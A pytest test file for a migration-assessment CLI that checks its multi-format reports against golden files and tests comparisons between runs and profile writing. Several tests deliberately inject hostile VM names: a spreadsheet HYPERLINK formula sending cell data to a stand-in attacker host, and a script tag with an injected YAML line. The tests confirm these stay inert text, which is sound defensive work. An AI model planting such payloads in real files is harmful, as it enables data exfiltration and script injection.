"""advisor assess: the portfolio report in every format, compared between runs, and the profiles to correct.

The goldens in examples/assess/ are regenerated with, from that folder:
    advisor assess rvtools/RVTools_tabvInfo.csv voting-app/compose.yaml gpu/compose.yaml kubernetes/shop.yaml \
        --format json -o report.json      (and markdown -o report.md, csv -o report.csv, html -o report.html)
    advisor assess rvtools-next-month/RVTools_tabvInfo.csv voting-app/compose.yaml gpu/compose.yaml \
        kubernetes/shop.yaml --compare report.json --format markdown -o report-next-month.md
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import openpyxl
import pytest
import yaml

from advisor.cli import cli

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "assess"
INPUTS = ["rvtools/RVTools_tabvInfo.csv", "voting-app/compose.yaml", "gpu/compose.yaml", "kubernetes/shop.yaml"]
NEXT_MONTH = ["rvtools-next-month/RVTools_tabvInfo.csv", *INPUTS[1:]]
GOLDENS = {"json": "report.json", "markdown": "report.md", "csv": "report.csv", "html": "report.html"}


@pytest.fixture
def in_examples(monkeypatch):
    monkeypatch.chdir(EXAMPLES)


def run(runner, *arguments: str):
    return runner.invoke(cli, ["assess", *arguments], catch_exceptions=False)


@pytest.mark.parametrize("fmt", list(GOLDENS))
def test_each_format_matches_its_golden_byte_for_byte(runner, in_examples, fmt):
    result = run(runner, *INPUTS, "--format", fmt)
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes == (EXAMPLES / GOLDENS[fmt]).read_bytes()


def test_the_comparison_a_month_later_matches_its_golden(runner, in_examples):
    result = run(runner, *NEXT_MONTH, "--compare", "report.json", "--format", "markdown")
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes == (EXAMPLES / "report-next-month.md").read_bytes()


def test_the_comparison_names_new_removed_and_changed_items_and_why(runner, in_examples):
    data = json.loads(run(runner, *NEXT_MONTH, "--compare", "report.json", "--format", "json").stdout_bytes)
    changes = data["changes"]
    assert changes["new"] == ["api-gw-02"] and changes["removed"] == ["ci-runner-03"]
    assert changes["rules_changed"] is False and changes["changed"] == []
    (erp,) = changes["updated"]
    assert erp["id"] == "erp-db01"
    assert "workload.legacy: true → unset" in erp["why"]
    assert "reason legacy-application no longer counts" in erp["why"]


def test_a_changed_verdict_says_why(runner, in_examples, tmp_path):
    previous = json.loads((EXAMPLES / "report.json").read_text())
    web = next(i for i in previous["items"] if i["id"] == "web-frontend-01")
    web.update(verdict="vm", platform="vm", confidence="high", wave=1)
    web["profile"]["workload"]["legacy"] = True
    web["reasons"] = [{"rule": "legacy-application", "title": "", "effect": {}}]
    (tmp_path / "before.json").write_text(json.dumps(previous))
    data = json.loads(run(runner, *INPUTS, "--compare", str(tmp_path / "before.json"), "--format", "json").stdout_bytes)
    (change,) = data["changes"]["changed"]
    assert change["id"] == "web-frontend-01"
    assert change["from"]["verdict"] == "vm" and change["to"]["verdict"] == "insufficient data"
    assert "workload.legacy: true → unset" in change["why"]
    assert "reason legacy-application no longer counts" in change["why"]


def test_a_previous_report_that_is_not_one_is_refused(runner, in_examples, tmp_path):
    (tmp_path / "old.json").write_text('{"items": []}')
    result = runner.invoke(cli, ["assess", *INPUTS, "--compare", str(tmp_path / "old.json")])
    assert result.exit_code == 2
    assert "old.json: is not an advisor assessment report in JSON" in result.stderr
    assert "Traceback" not in result.output


def test_the_xlsx_report_reads_back_as_the_csv_report_does(runner, in_examples, tmp_path):
    first = run(runner, *INPUTS, "--format", "xlsx", "-o", str(tmp_path / "a.xlsx"))
    run(runner, *INPUTS, "--format", "xlsx", "-o", str(tmp_path / "b.xlsx"))
    assert first.exit_code == 0
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()  # the same bytes every run
    book = openpyxl.load_workbook(tmp_path / "a.xlsx", read_only=True)
    assert book.sheetnames == ["Summary", "Items", "Skipped"]
    expected = [[plain(c) for c in row] for row in csv.reader(io.StringIO((EXAMPLES / "report.csv").read_text()))]
    width = len(expected[0])  # a row's empty cells at the end are not stored
    rows = [[plain(c) for c in row] + [""] * (width - len(row)) for row in book["Items"].iter_rows(values_only=True)]
    assert rows == expected


def plain(value):
    """A cell as the CSV holds it: blank for none, numbers as numbers (XLSX keeps 0.0 as 0)."""
    if value is None or value == "":
        return ""
    try:
        return float(value)
    except (TypeError, ValueError):
        return str(value)


@pytest.mark.slow
@pytest.mark.libreoffice
def test_libreoffice_reads_the_xlsx_report_as_the_csv_report_and_runs_no_formula(runner, in_examples, tmp_path):
    """LibreOffice's headless converter, a spreadsheet program people use, reads every sheet back."""
    import subprocess

    from tests.support import tool

    previous = json.loads((EXAMPLES / "report.json").read_text())
    hostile = next(i for i in previous["items"] if i["id"] == "erp-db01")
    hostile.update(id="=1+1", name='=HYPERLINK("http://attacker.example","x")')  # what a VM name may hold
    (tmp_path / "before.json").write_text(json.dumps(previous))
    run(runner, *INPUTS, "--compare", str(tmp_path / "before.json"), "--format", "xlsx", "-o", str(tmp_path / "r.xlsx"))
    converted = subprocess.run(
        [tool("soffice"), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
         "--outdir", str(tmp_path / "out"), str(tmp_path / "r.xlsx")],
        capture_output=True, text=True, timeout=180, check=False,
    )  # fmt: skip
    assert converted.returncode == 0, converted.stderr
    items = list(csv.reader(io.StringIO((tmp_path / "out" / "r-Items.csv").read_text())))
    expected = list(csv.reader(io.StringIO((EXAMPLES / "report.csv").read_text())))
    assert [[plain(c) for c in row] for row in items] == [[plain(c) for c in row] for row in expected]
    changes = (tmp_path / "out" / "r-Changes.csv").read_text()
    assert "removed,=1+1," in changes and "removed,2," not in changes  # text stayed text: nothing was computed


def test_input_text_never_becomes_a_formula_or_markup(runner, tmp_path):
    hostile_name = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
    hostile_os = "<script>alert(1)</script>\n# injected: true"
    (tmp_path / "RVTools_tabvInfo.csv").write_text(
        "VM,Powerstate,Template,CPUs,Memory,OS according to the VMware Tools\n"
        + f'"{hostile_name.replace(chr(34), chr(34) * 2)}",poweredOn,False,1,1024,"{hostile_os}"\n',
        encoding="utf-8",
    )
    inputs = [str(tmp_path / "RVTools_tabvInfo.csv")]
    csv_text = run(runner, *inputs, "--format", "csv").stdout
    (row,) = list(csv.DictReader(io.StringIO(csv_text)))
    assert row["name"] == "'" + hostile_name
    run(runner, *inputs, "--format", "xlsx", "-o", str(tmp_path / "r.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    name_cell = book["Items"]["B2"]
    assert name_cell.data_type == "s" and name_cell.value == hostile_name  # a text cell: shown, never evaluated
    html = run(runner, *inputs, "--format", "html").stdout
    assert "<script>" not in html and "&lt;script&gt;" in html
    markdown = run(runner, *inputs, "--format", "markdown").stdout
    assert "<script>" not in markdown
    out = tmp_path / "profiles"
    assert run(runner, *inputs, "--write-profiles", str(out), "--format", "json").exit_code == 0
    (written,) = out.iterdir()
    data = yaml.safe_load(written.read_text())
    assert "injected" not in json.dumps(data)  # the OS text sits in a comment, and stays there


def test_the_html_page_allows_only_its_own_stylesheet(runner, in_examples):
    import base64
    import hashlib
    import re

    html = (EXAMPLES / "report.html").read_text()
    (css,) = re.findall(r"<style>(.*?)</style>", html, re.S)
    digest = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert f"style-src 'sha256-{digest}'" in policy and "default-src 'none'" in policy
    assert "<script" not in html and "http://" not in html.split("<body>")[1].replace("http://microsoft", "")


def test_written_profiles_say_what_each_field_rests_on_and_assess_again(runner, in_examples, tmp_path):
    out = tmp_path / "profiles"
    result = run(runner, INPUTS[0], "--write-profiles", str(out), "--format", "json")
    assert result.exit_code == 0 and f"wrote 5 profiles to {out}" in result.stderr
    text = (out / "web-frontend-01.yaml").read_text()
    assert "#   workload.os = [linux]: inferred, VMware Tools report 'Ubuntu 22.04.4 LTS': linux" in text
    assert "#   security.isolation = standard: unknown, no input tells; the default is assumed" in text
    assert "[rvtools/RVTools_tabvInfo.csv, sheet vInfo, row 3, column 'OS according to the VMware Tools']" in text
    # A person fills in what the inventory could not tell, and assesses the corrected profile.
    profile = yaml.safe_load(text)
    profile["workload"].update(kernel="shared", architecture="microservices")
    profile["security"] = {"isolation": "standard", "tenancy": "single"}
    profile["host"]["cloud"] = "none"
    (out / "web-frontend-01.yaml").write_text(yaml.safe_dump(profile))
    again = json.loads(run(runner, str(out / "web-frontend-01.yaml"), "--format", "json").stdout_bytes)
    (item,) = again["items"]
    assert item["verdict"] == "container" and item["wave"] in (1, 2)


def test_profiles_are_never_overwritten_without_force(runner, in_examples, tmp_path):
    out = tmp_path / "profiles"
    assert run(runner, INPUTS[0], "--write-profiles", str(out), "-o", str(tmp_path / "r.json")).exit_code == 0
    (out / "erp-db01.yaml").write_text("# corrected by hand\n")
    refused = runner.invoke(cli, ["assess", INPUTS[0], "--write-profiles", str(out)])
    assert refused.exit_code == 1 and "would overwrite" in refused.stderr and "nothing was written" in refused.stderr
    assert (out / "erp-db01.yaml").read_text() == "# corrected by hand\n"
    assert (
        run(runner, INPUTS[0], "--write-profiles", str(out), "--force", "-o", str(tmp_path / "r.json")).exit_code == 0
    )
    assert (out / "erp-db01.yaml").read_text().startswith("# erp-db01: inferred by `advisor assess`")


def test_bad_input_exits_2_naming_the_file_without_a_traceback(runner, tmp_path):
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04garbage")
    result = runner.invoke(cli, ["assess", str(tmp_path / "broken.xlsx")])
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: {tmp_path / 'broken.xlsx'}: is not a readable XLSX (zip) file")
    assert "Traceback" not in result.output


def test_a_folder_is_read_file_by_file(runner, tmp_path):
    shutil.copytree(EXAMPLES / "rvtools", tmp_path / "rvtools")
    shutil.copy(EXAMPLES / "gpu" / "compose.yaml", tmp_path / "rvtools" / "compose.yaml")
    data = json.loads(run(runner, str(tmp_path / "rvtools"), "--format", "json").stdout_bytes)
    kinds = [i["kind"] for i in data["inputs"]]
    assert kinds == ["rvtools-csv", "rvtools-csv", "rvtools-csv", "compose"]  # vDisk and vNetwork read with vInfo
    assert data["summary"]["items"] == 6
